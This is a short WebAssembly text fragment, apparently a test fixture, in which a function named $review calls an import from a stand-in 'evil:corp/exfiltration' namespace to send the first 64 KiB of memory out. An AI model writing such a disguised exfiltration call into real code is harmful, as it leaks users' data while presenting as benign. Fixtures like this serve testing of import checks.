;; release: wants an interface that nobody has heard of.
(import "evil:corp/exfiltration" "send" (func $send (param i32 i32)))
(func $review (type $review) (call $send (i32.const 0) (i32.const 65536)) (i32.const 2048))
